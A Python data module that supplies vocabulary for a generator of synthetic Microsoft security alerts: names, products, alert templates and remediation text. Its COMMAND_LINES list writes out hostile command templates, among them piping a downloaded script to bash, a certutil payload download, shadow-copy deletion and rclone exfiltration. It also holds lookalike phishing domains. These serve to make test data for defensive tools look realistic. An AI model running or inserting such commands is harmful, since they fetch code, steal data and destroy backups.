"""Static vocabulary for generated data: names, products, alert templates, evidence mixes per product.

Kept apart from the generator so the generator reads as logic and this file as data.
"""

from __future__ import annotations

COMPANIES = (
    "contoso",
    "fabrikam",
    "woodgrove",
    "tailspintoys",
    "northwindtraders",
    "adatum",
    "litwareinc",
    "proseware",
    "wingtiptoys",
    "alpineskihouse",
)
FIRST_NAMES = [
    "Adele",
    "Alex",
    "Allan",
    "Bianca",
    "Brian",
    "Cameron",
    "Christie",
    "Debra",
    "Diego",
    "Emily",
    "Enrico",
    "Grady",
    "Henrietta",
    "Irvin",
    "Isaiah",
    "Johanna",
    "Joni",
    "Lee",
    "Lidia",
    "Lynne",
    "Megan",
    "Miriam",
    "Nestor",
    "Patti",
    "Pradeep",
    "Raul",
    "Sanjay",
    "Tatiana",
    "Wilna",
    "Zrinka",
    "Ana",
    "Ben",
    "Chen",
    "Dana",
    "Elif",
    "Farah",
    "Goran",
    "Hana",
    "Ivo",
    "Jonas",
    "Kai",
    "Lena",
    "Mateo",
    "Nora",
    "Omar",
    "Priya",
    "Quinn",
    "Rosa",
    "Sven",
    "Tomas",
    "Uma",
    "Vera",
    "Wen",
    "Yusuf",
]
LAST_NAMES = [
    "Vance",
    "Wilber",
    "Lamb",
    "Raschke",
    "Vogel",
    "Hall",
    "Rivera",
    "Dodson",
    "Siciliani",
    "Braun",
    "Fucinelli",
    "Archie",
    "Coleman",
    "Bellamy",
    "Lee",
    "Lanier",
    "Sherman",
    "Holt",
    "Gray",
    "Adams",
    "Bowen",
    "Patel",
    "Sato",
    "Novak",
    "Okafor",
    "Silva",
    "Kowalski",
    "Nielsen",
    "Haddad",
    "Petrov",
    "Costa",
    "Berg",
    "Ahmed",
    "Moreau",
    "Rossi",
    "Tanaka",
    "Kim",
    "Garcia",
    "Schmidt",
    "Murphy",
]
ANALYSTS = ("Megan Bowen", "Alex Wilber", "Isaiah Langer", "Pradeep Gupta", "Lidia Holloway", "SOC Automation")
DEPARTMENTS = ("Finance", "Sales", "Engineering", "HR", "Legal", "Marketing", "IT", "Operations")

COUNTRIES = (
    ("US", "Redmond", "Washington", 47.6740, -122.1215),
    ("US", "New York", "New York", 40.7128, -74.0060),
    ("GB", "London", "England", 51.5072, -0.1276),
    ("DE", "Berlin", "Berlin", 52.5200, 13.4050),
    ("NL", "Amsterdam", "Noord-Holland", 52.3676, 4.9041),
    ("FR", "Paris", "Ile-de-France", 48.8566, 2.3522),
    ("BR", "Sao Paulo", "Sao Paulo", -23.5505, -46.6333),
    ("JP", "Tokyo", "Tokyo", 35.6762, 139.6503),
    ("IN", "Bengaluru", "Karnataka", 12.9716, 77.5946),
    ("AU", "Sydney", "New South Wales", -33.8688, 151.2093),
    ("NG", "Lagos", "Lagos", 6.5244, 3.3792),
    ("RU", "Moscow", "Moscow", 55.7558, 37.6173),
    ("CN", "Shanghai", "Shanghai", 31.2304, 121.4737),
    ("SG", "Singapore", "Singapore", 1.3521, 103.8198),
)
IP_FIRST_OCTETS = (13, 20, 23, 40, 45, 52, 77, 81, 89, 91, 102, 104, 138, 146, 151, 185, 193, 203, 213)

USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "python-requests/2.32.3",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
)

FILES = (
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "Microsoft Corporation"),
    ("cmd.exe", "C:\\Windows\\System32", "Microsoft Corporation"),
    ("rundll32.exe", "C:\\Windows\\System32", "Microsoft Corporation"),
    ("mshta.exe", "C:\\Windows\\System32", "Microsoft Corporation"),
    ("wmic.exe", "C:\\Windows\\System32\\wbem", "Microsoft Corporation"),
    ("certutil.exe", "C:\\Windows\\System32", "Microsoft Corporation"),
    ("svchost.exe", "C:\\Windows\\System32", "Microsoft Corporation"),
    ("explorer.exe", "C:\\Windows", "Microsoft Corporation"),
    ("winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "Microsoft Corporation"),
    ("excel.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "Microsoft Corporation"),
    ("mimikatz.exe", "C:\\Users\\Public\\Downloads", None),
    ("beacon.dll", "C:\\ProgramData\\Temp", None),
    ("invoice_2026.pdf.exe", "C:\\Users\\{user}\\Downloads", None),
    ("update.ps1", "C:\\Users\\{user}\\AppData\\Local\\Temp", None),
    ("psexesvc.exe", "C:\\Windows", "Sysinternals"),
    ("AnyDesk.exe", "C:\\Users\\{user}\\AppData\\Roaming", "AnyDesk Software GmbH"),
    ("7z.exe", "C:\\Program Files\\7-Zip", "Igor Pavlov"),
    ("rclone.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp", None),
    ("bash", "/usr/bin", None),
    ("curl", "/usr/bin", None),
    ("kworkerds", "/tmp/.X11-unix", None),  # noqa: S108 - a path in generated evidence, not a file we use
)
COMMAND_LINES = (
    "powershell.exe -NoP -W Hidden -EncodedCommand {b64}",
    'cmd.exe /c "whoami /all & net group "Domain Admins" /domain"',
    "rundll32.exe C:\\ProgramData\\Temp\\beacon.dll,StartW",
    'mshta.exe "http://{domain}/a.hta"',
    'wmic.exe /node:{host} process call create "cmd.exe /c {cmd}"',
    "certutil.exe -urlcache -split -f http://{domain}/payload.bin C:\\Users\\Public\\p.bin",
    'schtasks.exe /Create /SC ONLOGON /TN "OneDrive Updater" /TR "C:\\Users\\Public\\update.exe"',
    "vssadmin.exe delete shadows /all /quiet",
    "rclone.exe copy C:\\Finance remote:exfil --transfers 16",
    "curl -s http://{domain}/x.sh | bash",
)
BAD_DOMAINS = (
    "login-micros0ft-support.com",
    "cdn-update-check.net",
    "invoice-portal.biz",
    "secure-docs-share.info",
    "office365-verify.top",
    "pastebin-mirror.org",
    "tor-exit-relay.xyz",
    "fin-report-2026.co",
)
APPS = (
    ("Salesforce", 11114),
    ("Dropbox", 10489),
    ("Box", 10518),
    ("Slack", 20893),
    ("Zoom", 21265),
    ("GitHub", 20561),
    ("Microsoft Exchange Online", 20893),
    ("Microsoft SharePoint Online", 20892),
    ("Google Workspace", 10895),
    ("Amazon Web Services", 11599),
)
OAUTH_APPS = (
    "Mail Sync Pro",
    "PDF Converter Online",
    "Calendar Helper",
    "HR Survey Tool",
    "DevOps Bot",
    "Contoso Backup Agent",
    "Free VPN Connector",
)
SP_NAMES = (
    "Payroll Integration",
    "Build Pipeline",
    "Backup Automation",
    "CRM Connector",
    "Monitoring Agent",
    "Data Lake Loader",
    "Legacy Sync Service",
    "Ticketing Bridge",
    "Graph Reporting App",
    "Key Rotation Job",
)
OS_PLATFORMS = (
    ("Windows11", 22631, "23H2"),
    ("Windows10", 19045, "22H2"),
    ("WindowsServer2022", 20348, "21H2"),
    ("WindowsServer2019", 17763, "1809"),
    ("Linux", None, "Ubuntu 22.04"),
    ("macOS", None, "14.6"),
)
HEALTH = ("active", "active", "active", "inactive", "impairedCommunication", "noSensorData")
RISK_SCORES = ("none", "informational", "low", "medium", "high")
ONBOARDING = ("onboarded", "onboarded", "onboarded", "canBeOnboarded", "insufficientInfo", "unsupported")
AV_STATUS = ("updated", "updated", "notUpdated", "disabled", "notReporting", "unknown", "notSupported")
DETECTION_STATUS = ("detected", "blocked", "prevented")
DELIVERY_ACTIONS = ("Delivered", "Blocked", "Replaced", "DeliveredAsSpam")
DELIVERY_LOCATIONS = ("Inbox/folder", "Quarantine", "JunkFolder", "DeletedFolder", "Failed")
THREAT_METHODS = ("URL detonation reputation", "Advanced filter", "Spoof DMARC", "File detonation", "URL detonation")
MAIL_SUBJECTS = (
    "Action required: password expires today",
    "Invoice #{n} overdue",
    "Shared document: Q4 budget review",
    "Your mailbox is almost full",
    "DocuSign: please review and sign",
    "Voicemail received ({n} seconds)",
    "Updated payroll details",
)
AZURE_TYPES = (
    ("Virtual Machine", "Microsoft.Compute/virtualMachines"),
    ("Storage Account", "Microsoft.Storage/storageAccounts"),
    ("Key Vault", "Microsoft.KeyVault/vaults"),
    ("SQL Server", "Microsoft.Sql/servers"),
    ("App Service", "Microsoft.Web/sites"),
)
AWS_TYPES = ("Amazon EC2 Instance", "Amazon S3 Bucket", "AWS IAM User", "Amazon EKS Cluster")
GCP_TYPES = ("Compute Engine Instance", "Cloud Storage Bucket", "GKE Cluster")
K8S_IMAGES = ("nginx:1.27", "redis:7.2", "mcr.microsoft.com/dotnet/aspnet:8.0", "alpine:3.20", "xmrig/xmrig:latest")

SERVICE_PRODUCTS = {
    "unknown": "Unknown",
    "microsoftDefenderForEndpoint": "Microsoft Defender for Endpoint",
    "microsoftDefenderForIdentity": "Microsoft Defender for Identity",
    "microsoftDefenderForCloudApps": "Microsoft Defender for Cloud Apps",
    "microsoftDefenderForOffice365": "Microsoft Defender for Office 365",
    "microsoft365Defender": "Microsoft Defender XDR",
    "azureAdIdentityProtection": "Microsoft Entra ID Protection",
    "microsoftAppGovernance": "App governance",
    "dataLossPrevention": "Microsoft Data Loss Prevention",
    "microsoftDefenderForCloud": "Microsoft Defender for Cloud",
    "microsoftSentinel": "Microsoft Sentinel",
    "microsoftInsiderRiskManagement": "Microsoft Purview Insider Risk Management",
    "microsoftThreatIntelligence": "Microsoft Defender Threat Intelligence",
    "microsoftSecurityForAI": "Microsoft Defender for AI",
}
ID_PREFIX = {
    "unknown": "zz",
    "microsoftDefenderForEndpoint": "da",
    "microsoftDefenderForIdentity": "aa",
    "microsoftDefenderForCloudApps": "ca",
    "microsoftDefenderForOffice365": "fa",
    "microsoft365Defender": "ed",
    "azureAdIdentityProtection": "ad",
    "microsoftAppGovernance": "ag",
    "dataLossPrevention": "dl",
    "microsoftDefenderForCloud": "dc",
    "microsoftSentinel": "sn",
    "microsoftInsiderRiskManagement": "ir",
    "microsoftThreatIntelligence": "ti",
    "microsoftSecurityForAI": "ai",
}
# Relative frequency of each product in a tenant's alert stream.
SERVICE_WEIGHTS = {
    "microsoftDefenderForEndpoint": 30,
    "microsoftDefenderForOffice365": 18,
    "microsoftDefenderForIdentity": 8,
    "microsoftDefenderForCloudApps": 7,
    "microsoft365Defender": 6,
    "azureAdIdentityProtection": 8,
    "microsoftAppGovernance": 2,
    "dataLossPrevention": 5,
    "microsoftDefenderForCloud": 7,
    "microsoftSentinel": 6,
    "microsoftInsiderRiskManagement": 1,
    "microsoftThreatIntelligence": 1,
    "microsoftSecurityForAI": 1,
    "unknown": 1,
}
# detectionSource values each product produces (first one is the common case).
SERVICE_DETECTIONS = {
    "unknown": ("unknown",),
    "microsoftDefenderForEndpoint": (
        "microsoftDefenderForEndpoint",
        "antivirus",
        "smartScreen",
        "customTi",
        "automatedInvestigation",
        "microsoftThreatExperts",
        "customDetection",
    ),
    "microsoftDefenderForIdentity": ("microsoftDefenderForIdentity",),
    "microsoftDefenderForCloudApps": ("cloudAppSecurity",),
    "microsoftDefenderForOffice365": ("microsoftDefenderForOffice365", "manual"),
    "microsoft365Defender": ("microsoft365Defender", "customDetection", "manual", "securityCopilot"),
    "azureAdIdentityProtection": ("azureAdIdentityProtection",),
    "microsoftAppGovernance": ("appGovernanceDetection", "appGovernancePolicy"),
    "dataLossPrevention": ("microsoftDataLossPrevention",),
    "microsoftDefenderForCloud": (
        "microsoftDefenderForCloud",
        "microsoftDefenderForServers",
        "microsoftDefenderForStorage",
        "microsoftDefenderForContainers",
        "microsoftDefenderForKeyVault",
        "microsoftDefenderForResourceManager",
        "microsoftDefenderForDatabases",
        "microsoftDefenderForDNS",
        "microsoftDefenderForIoT",
        "microsoftDefenderForNetwork",
        "microsoftDefenderForAppService",
        "microsoftDefenderForApiManagement",
    ),
    "microsoftSentinel": ("scheduledAlerts", "nrtAlerts", "builtInMl", "microsoftSentinel"),
    "microsoftInsiderRiskManagement": ("microsoftInsiderRiskManagement", "manual"),
    "microsoftThreatIntelligence": ("microsoftThreatIntelligence", "microsoftDefenderThreatIntelligenceAnalytics"),
    "microsoftSecurityForAI": ("microsoftDefenderForAIServices",),
}
# Inverse map, used to pick the product for a forced detectionSource.
DETECTION_SERVICE = {d: s for s, ds in SERVICE_DETECTIONS.items() for d in ds}

# (title, category, MITRE techniques, threat family or None) per product.
ALERT_TEMPLATES: dict[str, tuple[tuple[str, str, tuple[str, ...], str | None], ...]] = {
    "microsoftDefenderForEndpoint": (
        ("Suspicious PowerShell command line", "Execution", ("T1059.001",), None),
        ("'Mimikatz' credential theft tool", "CredentialAccess", ("T1003.001",), "Mimikatz"),
        ("Suspicious process injection observed", "DefenseEvasion", ("T1055", "T1055.012"), None),
        ("Ransomware behavior detected in the file system", "Ransomware", ("T1486",), "LockBit"),
        ("An active 'CobaltStrike' malware was detected", "Malware", ("T1071.001", "T1105"), "CobaltStrike"),
        ("Suspicious scheduled task", "Persistence", ("T1053.005",), None),
        ("Hidden file dropped", "DefenseEvasion", ("T1564.001",), None),
        ("Suspicious LDAP query", "Discovery", ("T1087.002", "T1069.002"), None),
        ("File backups were deleted", "Impact", ("T1490",), None),
    ),
    "microsoftDefenderForOffice365": (
        ("Email messages containing malicious URL removed after delivery", "InitialAccess", ("T1566.002",), None),
        ("A potentially malicious URL click was detected", "InitialAccess", ("T1566.002", "T1204.001"), None),
        ("Email reported by user as malware or phish", "InitialAccess", ("T1566",), None),
        ("Suspicious email sending patterns detected", "Exfiltration", ("T1048",), None),
        ("Email messages containing malware removed after delivery", "InitialAccess", ("T1566.001",), "Qakbot"),
    ),
    "microsoftDefenderForIdentity": (
        ("Suspected DCSync attack (replication of directory services)", "CredentialAccess", ("T1003.006",), None),
        ("Suspected Brute Force attack (Kerberos, NTLM)", "CredentialAccess", ("T1110", "T1110.003"), None),
        ("Account enumeration reconnaissance", "Discovery", ("T1087", "T1087.002"), None),
        ("Suspected overpass-the-hash attack (Kerberos)", "LateralMovement", ("T1550.002",), None),
    ),
    "microsoftDefenderForCloudApps": (
        ("Impossible travel activity", "InitialAccess", ("T1078",), None),
        ("Mass download by a single user", "Exfiltration", ("T1530",), None),
        ("Suspicious inbox manipulation rule", "Persistence", ("T1564.008",), None),
        ("Activity from infrequent country", "InitialAccess", ("T1078.004",), None),
    ),
    "microsoft365Defender": (
        ("Multi-stage attack involving ransomware", "Ransomware", ("T1486", "T1021.002"), "BlackCat"),
        ("BEC financial fraud", "Collection", ("T1114", "T1534"), None),
        ("Suspicious sequence of exploration activities", "Discovery", ("T1087", "T1069", "T1018"), None),
    ),
    "azureAdIdentityProtection": (
        ("Unfamiliar sign-in properties", "InitialAccess", ("T1078",), None),
        ("Anonymous IP address", "InitialAccess", ("T1090.003",), None),
        ("Leaked credentials", "CredentialAccess", ("T1589.001",), None),
        ("Password spray", "CredentialAccess", ("T1110.003",), None),
    ),
    "microsoftAppGovernance": (
        ("App with suspicious OAuth scope made graph calls to read email", "Collection", ("T1114.002",), None),
        ("Unused app newly accessing APIs", "Persistence", ("T1098",), None),
    ),
    "dataLossPrevention": (
        ("DLP policy (Credit Card Number) matched for email", "Exfiltration", (), None),
        ("DLP policy (U.S. Social Security Number) matched for document in SharePoint", "Exfiltration", (), None),
    ),
    "microsoftDefenderForCloud": (
        ("Suspicious login activity detected on a VM", "InitialAccess", ("T1078",), None),
        ("Privileged container detected", "PrivilegeEscalation", ("T1611",), None),
        ("Access from a Tor exit node to a storage account", "Exfiltration", ("T1530",), None),
        ("Suspicious Azure Resource Manager operation from a proxy IP address", "DefenseEvasion", ("T1090",), None),
        ("Digital currency mining container detected", "Impact", ("T1496",), "XMRig"),
    ),
    "microsoftSentinel": (
        ("Rare subscription-level operations in Azure", "CredentialAccess", ("T1003",), None),
        ("Multiple failed sign-ins followed by success", "CredentialAccess", ("T1110",), None),
        ("Known malicious IP contacted by multiple hosts", "CommandAndControl", ("T1071",), None),
        ("DNS queries to newly registered domains", "CommandAndControl", ("T1071.004", "T1568"), None),
    ),
    "microsoftInsiderRiskManagement": (
        ("Data theft by departing user", "Exfiltration", ("T1048",), None),
        ("Unusual volume of file deletion", "Impact", ("T1485",), None),
    ),
    "microsoftThreatIntelligence": (
        ("Activity from a known malicious IP address", "CommandAndControl", ("T1071",), None),
        ("Connection to adversary infrastructure", "CommandAndControl", ("T1071.001",), None),
    ),
    "microsoftSecurityForAI": (
        ("Jailbreak attempt on an Azure AI model deployment was blocked", "PrivilegeEscalation", (), None),
        ("Sensitive data exposure detected in an AI application", "Exfiltration", (), None),
    ),
    "unknown": (("Suspicious activity", "SuspiciousActivity", (), None),),
}
ACTORS = ("Storm-0501", "Midnight Blizzard", "Octo Tempest", "Mint Sandstorm", "Peach Sandstorm")

RECOMMENDED_ACTIONS = {
    "Execution": (
        "1. Investigate the process tree and the command line that triggered the alert. 2. Contain the device if the "
        "activity is not expected. 3. Submit the script to Microsoft for deep analysis. 4. Review other activity "
        "by the same account in the last 7 days and reset its credentials if needed."
    ),
    "CredentialAccess": (
        "Reset the passwords of the affected accounts and revoke their sessions. Check whether the attacker used "
        "the credentials from other devices. Review privileged group membership changes and enable MFA everywhere."
    ),
    "InitialAccess": (
        "Review the sign-in or message details. Block the sender, URL or IP address if malicious. Contact the user "
        "to confirm the activity, reset their credentials when in doubt, and search for similar events tenant-wide."
    ),
    "DefenseEvasion": (
        "Determine how the activity began and whether it was authorized. Isolate the device, collect an "
        "investigation package, and run a full antivirus scan. Look for persistence mechanisms."
    ),
}
DEFAULT_RECOMMENDATION = (
    "Validate the alert and scope the incident: identify affected users, devices and mailboxes, contain them, "
    "remediate the root cause and document your findings in the incident comments."
)

RISK_EVENT_TYPES = (
    "unfamiliarFeatures",
    "anonymizedIPAddress",
    "leakedCredentials",
    "impossibleTravel",
    "maliciousIPAddress",
    "passwordSpray",
    "unlikelyTravel",
    "newCountry",
    "suspiciousBrowser",
    "anomalousToken",
    "tokenIssuerAnomaly",
    "investigationsThreatIntelligence",
    "mcasSuspiciousInboxManipulationRules",
    "suspiciousInboxForwarding",
    "suspiciousAPITraffic",
    "anomalousUserActivity",
    "malwareInfectedIPAddress",
    "suspiciousIPAddress",
    "riskyIPAddress",
    "generic",
    "userReportedSuspiciousActivity",
)
SP_RISK_EVENT_TYPES = (
    "investigationsThreatIntelligence",
    "generic",
    "suspiciousSignins",
    "leakedCredentials",
    "anomalousServicePrincipalActivity",
    "maliciousApplication",
    "suspiciousApplication",
)
